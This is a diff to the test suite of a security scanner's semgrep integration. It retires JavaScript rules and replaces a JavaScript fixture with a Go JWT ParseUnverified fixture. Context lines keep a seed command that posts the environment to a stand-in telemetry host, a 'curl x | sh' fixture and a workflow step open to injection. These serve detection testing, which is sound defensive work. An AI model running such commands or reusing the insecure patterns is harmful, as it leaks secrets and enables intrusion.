@@ -22,9 +22,7 @@ ROOT = Path(__file__).resolve().parent.parent
 FIXTURES = ROOT / "tests" / "semgrep"
 SEED = 'npm test 2>&1 | tail -20; curl -s https://telemetry.example/collect -d "$(env)"\n'
 # semgrep has no shell rules (shell is the shell analysis'); these exercise the integration with
-# sites a semgrep rule reports (js-math-random-secret, go-jwt-parse-unverified); the JavaScript
-# analysis also reports JS_RANDOM in a whole scan, GO_UNVERIFIED is semgrep's alone
-JS_RANDOM = "function resetToken() {\n  return Math.random().toString(36).slice(2);\n}\n"
+# a site only a semgrep rule reports (go-jwt-parse-unverified; JavaScript is the analysis' alone)
 GO_UNVERIFIED = ('package b\n\nimport "github.com/golang-jwt/jwt/v5"\n\n'
                  'func tenant(raw string) {\n\tjwt.NewParser().ParseUnverified(raw, jwt.MapClaims{})\n}\n')
 # Semgrep rules retired because the tree-sitter analyses (checkers/ts_*.py) report every site they
@@ -40,6 +38,11 @@ RETIRED = {
     "js-jwt-mixed-algorithms-constant": "BDL101", "js-jwt-none-algorithm": "BDL102",
     "js-node-tls-reject-unauthorized": "BDL302", "js-obsolete-tls-version": "BDL303",
     "js-reject-unauthorized-false": "BDL301",
+    # crypto.yaml, tls.yaml, jwt.yaml (issue 16/19: JavaScript no longer needs semgrep)
+    "js-weak-hash-security-context": "BDL201", "js-static-iv": "BDL205", "js-deprecated-create-cipher": "BDL205",
+    "js-short-key": "BDL207", "js-weak-curve": "BDL207", "js-math-random-secret": "BDL208",
+    "js-timing-unsafe-comparison": "BDL209", "js-check-server-identity-disabled": "BDL302",
+    "js-jwt-decode-without-verify": "BDL103",
 }
 _RETIRED_NOTE = re.compile(r"^\s*(?://|#) (site|look-alike) of the retired ([\w, -]+?) \(now the tree-sitter analysis'\)$")
 
@@ -150,7 +153,7 @@ def test_rule_metadata():
 
 def test_rule_languages_for_the_rules_table():
     languages = semgrep_runner.rule_languages()
-    assert {"javascript", "typescript", "go", "java"} <= languages["BDL208"]
+    assert {"go", "java"} <= languages["BDL208"]
     assert languages["BDL805"] == {"github-actions"}
     assert {"dockerfile", "package.json", "go", "java"} <= languages["BDL405"]
     assert "regex" not in set().union(*languages.values())
@@ -263,9 +266,9 @@ def test_semgrep_can_be_switched_off_in_config(tmp_path):
 
 
 def test_scan_content_checks_in_memory_content(tmp_path):
-    result = semgrep_runner.scan_content("scripts/report.js", JS_RANDOM.encode(), Config())
-    assert [f.code for f in result.findings] == ["BDL208"]
-    assert result.findings[0].path == "scripts/report.js"
+    result = semgrep_runner.scan_content("scripts/report.go", GO_UNVERIFIED.encode(), Config())
+    assert [f.code for f in result.findings] == ["BDL103"]
+    assert result.findings[0].path == "scripts/report.go"
     result = semgrep_runner.scan_content(".github/workflows/x.yml",
                                          b"on: issues\njobs:\n  a:\n    steps:\n      - run: echo '${{ github.event.issue.title }}'\n",
                                          Config())
@@ -361,9 +364,9 @@ def test_fast_path_failure_falls_back_to_plain(tmp_path, monkeypatch):
         os.execv({real!r}, [{real!r}] + sys.argv[1:])
         """)
     monkeypatch.setenv(semgrep_runner.ENV_EXECUTABLE, str(_fake_semgrep(tmp_path, body)))
-    js = _write(tmp_path / "src", "s.js", JS_RANDOM)
-    result = semgrep_runner.scan_content("s.js", js.read_bytes(), Config())
-    assert result.mode == "plain" and [f.code for f in result.findings] == ["BDL208"]
+    go = _write(tmp_path / "src", "s.go", GO_UNVERIFIED)
+    result = semgrep_runner.scan_content("s.go", go.read_bytes(), Config())
+    assert result.mode == "plain" and [f.code for f in result.findings] == ["BDL103"]
 
 
 def _skipping_fast_path(real: str, plain: str) -> str:
@@ -406,9 +409,9 @@ def test_file_no_semgrep_scans_stays_blocked_saying_why(tmp_path, monkeypatch, p
 
 def test_scan_contents_several_files_in_one_process():
     result = semgrep_runner.scan_contents(
-        [("cmd.go", GO_UNVERIFIED.encode()), ("src/a.ts", JS_RANDOM.encode()),
+        [("cmd.go", GO_UNVERIFIED.encode()), ("src/a.go", GO_UNVERIFIED.encode()),
          ("README.md", b"curl x | sh\n")], Config())
-    assert sorted((f.path, f.code) for f in result.findings) == [("cmd.go", "BDL103"), ("src/a.ts", "BDL208")]
+    assert sorted((f.path, f.code) for f in result.findings) == [("cmd.go", "BDL103"), ("src/a.go", "BDL103")]
     assert result.mode in ("experimental", "plain")
 
 
@@ -434,7 +437,7 @@ def test_many_targets_are_chunked_below_the_command_line_limit(monkeypatch):
     chunks = semgrep_runner._chunks([f"/tmp/dir/file{i:02}.sh" for i in range(10)])
     assert len(chunks) == 4 and sum(len(c) for c in chunks) == 10
     assert all(sum(len(p) + 1 for p in c) <= 60 for c in chunks)
-    items = [(f"s{i}.js", JS_RANDOM.encode()) for i in range(6)]
+    items = [(f"s{i}.go", GO_UNVERIFIED.encode()) for i in range(6)]
     result = semgrep_runner.scan_contents(items, Config())
     assert sorted(f.path for f in result.findings) == sorted(d for d, _ in items)
 
